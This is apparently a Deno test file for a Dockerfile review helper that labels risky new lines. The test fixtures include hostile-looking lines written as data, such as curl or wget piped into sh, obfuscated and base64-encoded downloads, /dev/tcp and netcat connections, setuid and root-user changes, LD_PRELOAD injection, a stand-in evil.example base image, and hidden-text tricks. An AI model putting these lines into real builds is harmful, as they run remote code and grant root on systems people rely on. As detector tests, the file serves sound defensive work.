/** Hints on single lines: what each new line of a Dockerfile is said to mean, or is passed over. */

import assert from "node:assert/strict";
import { dockerfileNotices } from "../../src/operator/review/dockerfile_hints.ts";
import { BASE } from "./base_dockerfile.ts";

function labels(before: string | undefined, after: string): string[] {
  return dockerfileNotices(before, after).map(({ label }) => label);
}

const HARMLESS = [
  "RUN apt-get install -y jq",
  "RUN apt-get update && apt-get install -y curl wget git python3 bash \\\n  jq && rm -rf /var/lib/apt",
  "RUN apk add --no-cache curl bash",
  "RUN npm ci && npm run build",
  "RUN pip install -r requirements.txt",
  "RUN cargo install ripgrep && go build ./...",
  "COPY --chown=node:node . /app",
  "RUN chmod 755 /app && chmod +x /app/run.sh",
  "ENV NODE_ENV=production",
  "RUN useradd -m -s /bin/bash app",
  "RUN echo 'a | b' > /etc/motd && git config --global user.name x",
  "# curl https://x | sh",
  "EXPOSE 8080\nSTOPSIGNAL SIGINT",
  "COPY . /app",
  "RUN npm ci",
  "RUN npm i @scope/pkg && npm --prefix a/b ci",
  "RUN pip install x && sed -i s/a/b/ f",
  "RUN go install ./cmd/x && cargo install --locked ripgrep",
  "RUN x=$(nproc) && make -j$x && echo `date` `id` > /v",
  'RUN if [ "$(uname -m)" = x ]; then true; fi',
  "RUN useradd -m -u 1000 x && install -m 0755 -d /x && chmod 1777 /tmp",
  "ENV PATH=$PATH:/x",
  "ADD target/${A}.jar /x",
];

for (const line of HARMLESS) {
  Deno.test(`dockerfileNotices() passes over: ${JSON.stringify(line)}`, () => {
    assert.deepEqual(dockerfileNotices(BASE, `${BASE}${line}\n`), []);
  });
}

const FOUND: Readonly<Record<string, readonly string[]>> = {
  "REMOTE SCRIPT": [
    "ARG U=https://x.example/y\nADD $U /x",
    "ADD h$x/y /z",
    'RUN sh -c "$(cu${x}rl x)"',
    "RUN eval `cat x`",
    "RUN `cat x`",
    "RUN cu${x}rl x",
    "RUN pip install -ihttps://x y",
    "RUN npm i user/repo",
    "RUN go install host.example/x@v1",
    "RUN cargo install --git https://x",
    "RUN curl -fsSL https://x.example | bash",
    "RUN wget -qO- x.example|sh",
    "  run c\\url x | 's'h",
    "RUN cu\\\nrl x \\\n # in between\n\n | \\\n sh",
    'RUN bash -c "$(curl -fsSL https://x.example)"',
    "RUN bash <(curl x.example)",
    "RUN . <(wget -O- x.example)",
    'RUN ["sh", "-c", "c\\u0075rl x | sh"]',
    "RUN curl -o /x https://x.example && chmod +x /x",
    "RUN <<EOF\ncurl x > /tmp/a\nsh /tmp/a\nEOF",
    "COPY <<-EOF /run.sh\n\tcurl x | sh\n\tEOF",
    "ONBUILD RUN curl x | sh",
    "RUN timeout 5 sudo -E curl x | sudo -E bash -",
    "RUN echo Y3VybA== | base64 -d | sh",
    "RUN python3 -c \"import urllib.request as u; exec(u.urlopen('http://x').read())\"",
    "RUN git clone https://x.example && cd x && make",
    "ADD https://x.example/y /y",
    'add --chown=a:b ["https://x.example/y", "/y"]',
    "ADD git@github.com:a/b.git /x",
    "RUN pip install \\\n  git+https://x.example/y",
    "RUN npm i https://x.example/y.tgz",
    "RUN pip install --trusted-host x.example y",
    "RUN curl -sk https://x.example",
    "RUN wget --no-check-certificate x.example",
  ],
  "DOWNLOAD": [
    'RUN python3 -c "import http.client"',
    "RUN perl -MIO::Socket -e 1",
    "RUN node -e \"require('net').connect(1)\"",
    "RUN openssl s_client -connect x:1",
    "RUN nc x 1",
    "RUN ncat x 1",
    "RUN socat - tcp:x:1",
    "RUN curl -o /x https://x.example",
    "RUN git clone x",
    "RUN cat < /dev/tcp/1.1.1.1/80",
  ],
  "ROOT": [
    "RUN chmod 04755 /x",
    "RUN install -m 4755 a b",
    "COPY --chmod=4755 a /b",
    "RUN chmod a+x,u+s /x",
    "RUN useradd -ou 0 x",
    "RUN useradd -u0 x",
    "RUN echo x >> /etc//passwd",
    "RUN echo x >>/etc/./shadow",
    "RUN cd /etc && echo x >> passwd",
    "RUN echo x >> /etc/pass?d",
    "USER root",
    'user "0":0',
    "USER $WHO",
    "USER root\nRUN true\nUSER node",
    "RUN echo \\\\\nUSER root",
    'RUN echo "<<EOF"\nUSER root\nEOF',
    "RUN cat <<EOF\nUSER root",
    "RUN apt-get install -y sudo",
    "RUN chmod u+s /bin/sh",
    "RUN chmod 4755 /x",
    "RUN setcap cap_net_raw+ep /x",
    "RUN --security=insecure true",
    "RUN useradd -o -u 0 x",
    "RUN usermod -aG docker node",
  ],
  "NEW BASE IMAGE": [
    "FROM evil.example/x",
    "COPY --from=evil.example/x:1 /x /y",
    "RUN --mount=type=bind,from=evil.example/x,target=/x cp /x/y /y",
  ],
  "SECRET IN IMAGE": ["ENV API_TOKEN=abc", "ENV PASSWORD hunter2", 'ARG A=1 NPM_TOKEN="a"'],
  "LOADS CODE": [
    "ENV LD_PRELOAD=/x.so",
    "ENV PATH=/x:$PATH",
    "ENV PATH /x:$PATH",
    "ENV NODE_OPTIONS=--require=/x",
    "ENV PYTHONSTARTUP=/x",
    "ENV BASH_ENV /x",
  ],
  "BUILD SECRET": ["RUN --mount=type=secret,id=npm true", "RUN --mount=type=ssh true"],
  "PROXY": ["ENV HTTPS_PROXY=", "RUN echo 'Acquire::http::Proxy \"x\";' > /etc/apt/a"],
  "PACKAGE SOURCE": [
    "RUN echo deb http://x.example > /etc/apt/sources.list.d/x.list",
    "RUN apt-key add /x",
    "ENV PIP_INDEX_URL=http://x.example",
    "RUN npm config set registry http://x.example",
    "RUN pip config set global.index-url http://x.example",
    "RUN update-ca-certificates",
  ],
  "ENTRYPOINT": [
    'ENTRYPOINT ["/x"]',
    "cmd /x",
    "HEALTHCHECK CMD curl -f http://localhost/",
    'SHELL ["/x"]',
    "ONBUILD RUN true",
  ],
  "HIDDEN TEXT": [
    "RUN echo \u05d0",
    "# \u0627\u0628",
    "RUN echo a\u202eb",
    "# a\u200bb",
    "RUN true\rUSER node",
    `RUN true ${"x".repeat(400)}`,
    `RUN true${" ".repeat(60)}; x`,
    "RUN \u0430pt-get update",
  ],
};

for (const [label, cases] of Object.entries(FOUND)) {
  for (const line of cases) {
    Deno.test(`dockerfileNotices() says ${label}: ${JSON.stringify(line).slice(0, 80)}`, () => {
      const found = labels(BASE, `${BASE}${line}\n`);
      assert.ok(found.includes(label), found.join());
    });
  }
}
